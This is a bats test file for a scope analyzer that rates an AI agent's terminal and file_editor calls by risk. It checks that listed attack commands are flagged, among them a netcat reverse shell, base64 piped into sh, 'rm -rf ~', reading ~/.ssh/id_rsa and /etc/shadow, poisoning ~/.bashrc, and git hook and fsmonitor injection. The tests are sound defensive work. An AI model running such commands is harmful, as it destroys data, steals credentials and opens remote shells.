#!/usr/bin/env bats
# The scope analyzer (lib/agent/tools/scope.c) through tool_cli --risk, which rates
# calls without running them: a terminal command is LOW only when it
# provably reads inside the project (allowlisted readers and arguments, no
# expansion, substitution, interpreter, network tool or writing
# redirection); the commands of issue 15 §2 are never LOW, and writes to
# .git, shell startup files or outside the project are HIGH, from the
# terminal and from file_editor.

load lib

TOOL_CLI=${HW_TOOL_CLI:-$HW_ROOT/t/unit/tool_cli}

setup_file() {
	[ -n "${HW_TOOL_CLI-}" ] || make -s -C "$HW_ROOT" t/unit/tool_cli >/dev/null
}

setup() {
	PROJ=$(mktemp -d "${BATS_TMPDIR:-/tmp}/hw-test.XXXXXX")
	cd "$PROJ" || return 1
	mkdir -p src .git/hooks .heartwood
	echo a >src/a.txt
	echo r >README
}

# risk CMD: the rule risk of a terminal call running CMD
risk() {
	jq -cn --arg c "$1" '{name: "terminal", arguments: {command: $c, security_risk: "LOW"}}' |
		"$TOOL_CLI" --risk | jq -r .rule_risk
}

# edit COMMAND PATH: the rule risk of a file_editor call
edit() {
	jq -cn --arg c "$1" --arg p "$2" '{name: "file_editor", arguments: {command: $c, path: $p, file_text: "x", old_str: "a", new_str: "b", insert_line: 0, security_risk: "LOW"}}' |
		"$TOOL_CLI" --risk | jq -r .rule_risk
}

# the attacks of issue 15 §2: each rated LOW on 012bb29

@test "scope: find outside -delete and base64 piped into sh are HIGH" {
	[ "$(risk 'find /tmp/x -delete; echo aWQK | base64 -d | sh')" = HIGH ]
}

@test "scope: a command name made by substitution, rm -rf ~, is HIGH" {
	[ "$(risk '$(printf rm) -rf ~')" = HIGH ]
}

@test "scope: python3 -c with os.system is not LOW" {
	[ "$(risk "python3 -c \"__import__('os').system('id')\"")" != LOW ]
}

@test "scope: perl -e system is not LOW" {
	[ "$(risk "perl -e 'system(\"id\")'")" != LOW ]
}

@test "scope: appending to ~/.bashrc is HIGH" {
	[ "$(risk 'echo "alias ls=id" >> ~/.bashrc')" = HIGH ]
}

@test "scope: appending to \$HOME/.profile is HIGH" {
	[ "$(risk 'echo x >> $HOME/.profile')" = HIGH ]
}

@test "scope: cat ~/.ssh/id_rsa is not LOW" {
	[ "$(risk 'cat ~/.ssh/id_rsa')" != LOW ]
}

@test "scope: nc -e /bin/sh is HIGH" {
	[ "$(risk 'nc -e /bin/sh 10.0.0.1 4444')" = HIGH ]
}

@test "scope: chmod -R 000 ~ is HIGH" {
	[ "$(risk 'chmod -R 000 ~')" = HIGH ]
}

@test "scope: a write to .git/config is HIGH" {
	[ "$(risk 'echo "[core] fsmonitor = id" >> .git/config')" = HIGH ]
}

@test "scope: a write to a git hook is HIGH" {
	[ "$(risk 'cp x .git/hooks/pre-commit')" = HIGH ]
}

@test "scope: git config is HIGH" {
	[ "$(risk 'git config core.fsmonitor id')" = HIGH ]
}

@test "scope: a write outside the project by absolute path is HIGH" {
	[ "$(risk 'echo x > /tmp/elsewhere')" = HIGH ]
}

@test "scope: a write outside the project through .. is HIGH" {
	[ "$(risk 'touch ../elsewhere')" = HIGH ]
}

@test "scope: a write through a link that leaves the project is HIGH" {
	ln -s /tmp out
	[ "$(risk 'echo x > out/elsewhere')" = HIGH ]
}

@test "scope: sh -c is not LOW" {
	[ "$(risk 'sh -c id')" != LOW ]
}

@test "scope: a pipe into bash is HIGH" {
	[ "$(risk 'cat README | bash')" = HIGH ]
}

@test "scope: curl is not LOW" {
	[ "$(risk 'curl -s http://127.0.0.1:1/')" != LOW ]
}

@test "scope: a write inside the project is not LOW" {
	[ "$(risk 'echo run >> ran.txt')" = MEDIUM ]
}

@test "scope: reading outside the project is not LOW" {
	[ "$(risk 'cat /etc/passwd')" = MEDIUM ]
}

@test "scope: reading through .. is not LOW" {
	[ "$(risk 'cat ../x')" = MEDIUM ]
}

@test "scope: reading through a link out of the project is not LOW" {
	ln -s /etc/hostname host
	[ "$(risk 'cat host')" = MEDIUM ]
}

@test "scope: a glob that can reach .. is not LOW" {
	[ "$(risk 'cat .*/x')" = MEDIUM ]
}

@test "scope: reading .heartwood is not LOW" {
	[ "$(risk 'cat .heartwood/config.toml')" = MEDIUM ]
}

@test "scope: a variable expansion is not LOW" {
	[ "$(risk 'cat $F')" = MEDIUM ]
}

@test "scope: backticks are not LOW" {
	[ "$(risk 'echo `id`')" = MEDIUM ]
}

@test "scope: an assignment before the command is not LOW" {
	[ "$(risk 'LD_PRELOAD=x.so ls')" = MEDIUM ]
}

@test "scope: a background command is not LOW" {
	[ "$(risk 'sleep 1 &')" = MEDIUM ]
}

@test "scope: a subshell is not LOW" {
	[ "$(risk '(ls)')" = MEDIUM ]
}

@test "scope: find -exec is not LOW" {
	[ "$(risk 'find . -exec id ;')" = MEDIUM ]
}

@test "scope: find -fprint is not LOW" {
	[ "$(risk 'find . -fprint out')" = MEDIUM ]
}

@test "scope: sort -o is not LOW" {
	[ "$(risk 'sort -o out README')" = MEDIUM ]
}

@test "scope: git -c is not LOW" {
	[ "$(risk 'git -c core.pager=id log')" = MEDIUM ]
}

@test "scope: git diff --output is not LOW" {
	[ "$(risk 'git diff --output=x')" = MEDIUM ]
}

@test "scope: git branch NAME is not LOW" {
	[ "$(risk 'git branch topic')" = MEDIUM ]
}

@test "scope: an option carrying an absolute path is not LOW" {
	[ "$(risk 'grep -f/etc/shadow x')" = MEDIUM ]
}

@test "scope: a here-string is not LOW" {
	[ "$(risk 'cat <<< x')" = MEDIUM ]
}

@test "scope: input to a running command is not LOW" {
	run -0 --separate-stderr "$TOOL_CLI" --risk < <(jq -cn '{name: "terminal", arguments: {command: "id", is_input: true}}')
	[ "$(jq -r .rule_risk <<<"$output")" = MEDIUM ]
}

@test "scope: an unfinished quote is not LOW" {
	[ "$(risk "cat 'README")" = MEDIUM ]
}

@test "scope: the safe readers stay LOW" {
	while IFS= read -r c; do
		r=$(risk "$c")
		if [ "$r" != LOW ]; then
			echo "$c: $r"
			return 1
		fi
	done <<'C'
ls -la
ls src
cat README
head -n 5 README
tail -n 2 src/a.txt
wc -l src/a.txt README
grep -rn needle src
grep 'a|b$' README
find . -name '*.c'
find src -type f
git status
git status --short
git diff
git diff HEAD~1 -- src
git log --oneline -5
git show HEAD
git branch
pwd
echo hello world
cat src/*.txt
ls 2>/dev/null
cat README 2>&1 | head -5
wc -l src/a.txt | sort -n
sleep 1

C-c
C
}

@test "scope: file_editor writing .git/config is HIGH" {
	[ "$(edit str_replace .git/config)" = HIGH ]
}

@test "scope: file_editor creating a git hook is HIGH" {
	[ "$(edit create .git/hooks/post-checkout)" = HIGH ]
}

@test "scope: file_editor inserting into a hook by absolute path is HIGH" {
	[ "$(edit insert "$PROJ/.git/hooks/pre-commit")" = HIGH ]
}

@test "scope: file_editor writing outside the project is HIGH" {
	[ "$(edit create /tmp/elsewhere.txt)" = HIGH ]
}

@test "scope: file_editor viewing outside the project is not LOW" {
	[ "$(edit view /etc/hostname)" = MEDIUM ]
}

@test "scope: file_editor inside the project stays LOW" {
	[ "$(edit create src/new.c)" = LOW ]
	[ "$(edit view README)" = LOW ]
	[ "$(edit str_replace src/a.txt)" = LOW ]
}
